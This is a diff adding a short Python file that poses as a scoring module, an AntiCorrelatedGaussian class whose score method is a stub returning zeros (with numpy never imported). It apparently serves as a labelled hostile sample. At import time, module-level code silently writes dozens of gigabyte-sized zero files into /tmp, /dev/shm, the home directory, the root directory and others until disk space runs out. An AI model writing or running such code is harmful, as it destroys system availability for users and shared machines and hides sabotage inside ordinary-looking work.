@@ -1,0 +1,19 @@
+# task = "score"
+# why = "Writes until no room is left, in large files and in empty ones."
+
+
+import os
+
+for folder in ("/tmp", "/dev/shm", os.path.expanduser("~"), ".", "/run/kernel", "/var/tmp", "/"):
+    try:
+        for number in range(64):
+            with open(f"{folder}/hostile-trace-fills_the_disk-{number}", "wb") as file:
+                for _ in range(1024):
+                    file.write(bytes(2**20))
+    except OSError:
+        pass
+
+
+class AntiCorrelatedGaussian:
+    def score(self, x):
+        return np.zeros_like(x)
